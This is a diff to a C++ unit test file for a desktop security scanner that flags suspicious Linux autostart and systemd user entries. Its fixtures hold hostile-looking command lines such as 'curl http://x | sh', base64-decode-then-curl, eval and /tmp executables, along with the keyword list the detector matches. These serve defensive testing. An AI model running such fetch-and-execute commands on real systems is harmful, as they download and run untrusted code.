@@ -1,6 +1,7 @@
 #include "services/health/ProtectionService.h"
 
 #include "platform/ExtendedAttributes.h"
+#include "services/health/DesktopEntryFile.h"
 
 #include "FileTreeSupport.h"
 #include "TestSupport.h"
@@ -63,17 +64,19 @@ TEST_F(ProtectionServiceTest, AgentsAreFoundByTheFirstTokenInListOrder) {
         QString detail;  // empty: no finding
     };
     const QList<Case> cases = {
-        {"both.desktop", "Exec=sh -c 'echo x | base64 -d; curl http://x'", "Agent references \u201Ccurl\u201D"},
-        {"upper.desktop", "Exec=CURL http://x", "Agent references \u201Ccurl\u201D"},
+        {"both.desktop", "Exec=sh -c 'echo x | base64 -d; curl http://x'", "Entry references \u201Ccurl\u201D"},
+        {"upper.desktop", "Exec=CURL http://x", "Entry references \u201Ccurl\u201D"},
         {"nospace.desktop", "Exec=curl\thttp://x", ""},
-        {"tmp.desktop", "Exec=/tmp/run-me", "Agent references \u201C/tmp/\u201D"},
-        {"eval.desktop", "Exec=sh -c 'eval $(x)'", "Agent references \u201Ceval\u201D"},
-        {"python.desktop", "Exec=python -c 'import os'", "Agent references \u201Cpython -c\u201D"},
+        {"tmp.desktop", "Exec=/tmp/run-me", "Entry references \u201C/tmp/\u201D"},
+        {"eval.desktop", "Exec=sh -c 'eval $(x)'", "Entry references \u201Ceval\u201D"},
+        {"python.desktop", "Exec=python -c 'import os'", "Entry references \u201Cpython -c\u201D"},
         {"plain.desktop", "Exec=/usr/bin/nm-applet", ""},
         {"com.apple.helper.desktop", "Exec=curl http://x", ""},
         {"com.taldovane.agent.desktop", "Exec=curl http://x", ""},
         {"com.tarnwick.daily.desktop", "Exec=curl http://x", ""},
-        {"binary.desktop", QByteArray("Exec=curl http://x ") + "\xff\xfe", ""},
+        // One byte that is not UTF-8 hides nothing.
+        {"binary.desktop", QByteArray("Name=Caf\xe9\nExec=curl http://x | sh ") + "\xff\xfe",
+         "Entry references \u201Ccurl\u201D"},
         {"LOUD.DESKTOP", "Exec=curl http://x", ""},
         {".hidden.desktop", "Exec=curl http://x", ""},
         {"unit.service", "ExecStart=curl http://x", ""},  // not a unit folder
@@ -101,41 +104,62 @@ TEST_F(ProtectionServiceTest, AgentsAreFoundByTheFirstTokenInListOrder) {
     }
 }
 
-TEST_F(ProtectionServiceTest, AgentsComeFromEveryFolderUserFirstAndLinksAreNotFollowed) {
+TEST_F(ProtectionServiceTest, AgentsComeFromEveryFolderUserFirstAndLinksAreReadThroughTheirTargets) {
     writeFile(root("/etc/xdg/autostart/sync.desktop"), "Exec=wget -q http://x");
     writeFile(root("/etc/systemd/user/fetch.service"), "[Service]\nExecStart=/bin/sh -c 'npx something'\n");
     writeFile(home(".config/autostart/sync.desktop"), "Exec=wget http://x");
     writeFile(home(".config/systemd/user/miner.service"), "[Service]\nExecStart=/usr/bin/osascript\n");
     writeFile(home(".config/systemd/user/miner.timer"), "curl ");
+    // A unit planted as a link is examined; a unit masked by a link to the
+    // null device starts nothing; an alias of a unit already judged is not judged twice.
     const QString target = writeFile(env.path("elsewhere.service"), "ExecStart=curl http://x");
     test::makeLink(target, home(".config/systemd/user/linked.service"));
+    test::makeLink("/dev/null", home(".config/systemd/user/masked.service"));
+    test::makeLink(home(".config/systemd/user/miner.service"), home(".config/systemd/user/miner-alias.service"));
 
     const QList<ProtectionFinding> findings = ProtectionService::suspiciousAgents(locations());
-    EXPECT_EQ(titles(findings), (QStringList{"sync", "miner", "sync", "fetch"}));
-    ASSERT_EQ(findings.size(), 4);
+    EXPECT_EQ(titles(findings), (QStringList{"sync", "miner", "linked", "sync", "fetch"}))
+        << titles(findings).join(' ').toStdString();
+    ASSERT_EQ(findings.size(), 5);
     EXPECT_EQ(findings[0].path, home(".config/autostart/sync.desktop"));
-    EXPECT_EQ(findings[2].path, root("/etc/xdg/autostart/sync.desktop"));
-    EXPECT_EQ(findings[3].detail, "Agent references \u201Cnpx\u201D");
+    EXPECT_EQ(findings[2].path, home(".config/systemd/user/linked.service")) << "the link is what a clean moves";
+    EXPECT_EQ(findings[3].path, root("/etc/xdg/autostart/sync.desktop"));
+    EXPECT_EQ(findings[4].detail, "Entry references \u201Cnpx\u201D");
 
     // The user's folders follow XDG_CONFIG_HOME.
     env.environment().variables.insert("XDG_CONFIG_HOME", env.path("config"));
     env.apply();
     writeFile(env.path("config/autostart/moved.desktop"), "Exec=curl http://x");
-    EXPECT_EQ(titles(ProtectionService::suspiciousAgents(locations())), (QStringList{"moved", "sync", "fetch"}));
+    EXPECT_EQ(titles(ProtectionService::suspiciousAgents(locations())), (QStringList{"moved", "sync", "fetch"}))
+        << titles(ProtectionService::suspiciousAgents(locations())).join(' ').toStdString();
 }
 
-TEST_F(ProtectionServiceTest, AgentReadsStopAtOneMebibyte) {
-    const qint64 limit = 1024 * 1024;
-    // A token beyond the cap is not seen.
-    QByteArray late(limit, 'a');
-    late += "curl http://x";
+TEST_F(ProtectionServiceTest, AnEntryIsJudgedWholeOrFlaggedAsUnreadable) {
+    // A command after a mebibyte of comments is still seen.
+    QByteArray late = "[Desktop Entry]\n";
+    while (late.size() < (1 << 20) + 10) late += "# nothing to see here, just a long comment line\n";
+    late += "Exec=sh -c 'curl -s http://x | sh'\n";
     writeFile(home(".config/autostart/late.desktop"), late);
-    // A token inside it is, even when the cap cuts a character in two.
-    QByteArray cut = "Exec=curl http://x ";
-    cut += QByteArray(limit - cut.size() - 1, 'a');
-    cut += "\xc3\xa9 and more";
-    writeFile(home(".config/autostart/cut.desktop"), cut);
-    EXPECT_EQ(titles(ProtectionService::suspiciousAgents(locations())), QStringList{"cut"});
+    // A character of several bytes anywhere does not matter.
+    writeFile(home(".config/autostart/accents.desktop"), "Name=\xc3\xa9t\xc3\xa9\nExec=wget http://x\n");
+    // Past the cap, or closed to reading: flagged, never passed over.
+    writeFile(home(".config/autostart/huge.desktop"), QByteArray(DesktopEntryFile::kLimit + 1, '#'));
+    const QString closed = writeMode(home(".config/autostart/closed.desktop"), "Exec=curl http://x\n", 0);
+    const bool rootReads = QFile(closed).open(QIODevice::ReadOnly);
+
+    const QList<ProtectionFinding> findings = ProtectionService::suspiciousAgents(locations());
+    QStringList described;
+    for (const ProtectionFinding& finding : findings) described << finding.title + ": " + finding.detail;
+    QStringList expected{"accents: Entry references \u201Cwget\u201D",
+                         rootReads ? "closed: Entry references \u201Ccurl\u201D"
+                                   : "closed: Could not be read \u2014 review what it starts",
+                         "huge: Too large to read whole \u2014 review what it starts",
+                         "late: Entry references \u201Ccurl\u201D"};
+    EXPECT_EQ(described, expected) << described.join(" | ").toStdString();
+    for (const ProtectionFinding& finding : findings) {
+        EXPECT_EQ(finding.severity, Severity::high);
+        EXPECT_FALSE(finding.isSelected);
+    }
 }
 
 TEST_F(ProtectionServiceTest, AdwarePathsAreTheFixedOnesAndOneNameMatch) {
@@ -233,7 +257,7 @@ TEST_F(ProtectionServiceTest, UnsignedExecutablesAreRunnableFilesThatStartAsProg
         EXPECT_EQ(finding.kind, Kind::unsignedExec);
         EXPECT_EQ(finding.severity, Severity::medium);
         EXPECT_FALSE(finding.isSelected);
-        EXPECT_EQ(finding.detail, "Executable without valid code signature");
+        EXPECT_EQ(finding.detail, "Runnable program \u2014 check where it came from before running it");
     }
 }
 
@@ -248,7 +272,7 @@ TEST_F(ProtectionServiceTest, AnEmptyHomeStillReportsEveryStage) {
     QStringList labels;
     const QList<ProtectionFinding> findings = ProtectionService::scan([&](const QString& label) { labels.append(label); });
     EXPECT_TRUE(findings.isEmpty());
-    EXPECT_EQ(labels, (QStringList{"Scanning launch agents\u2026", "Checking adware locations\u2026",
+    EXPECT_EQ(labels, (QStringList{"Scanning startup entries\u2026", "Checking adware locations\u2026",
                                    "Reviewing quarantined downloads\u2026", "Checking browser extensions\u2026",
                                    "Scanning unsigned executables\u2026"}));
 }
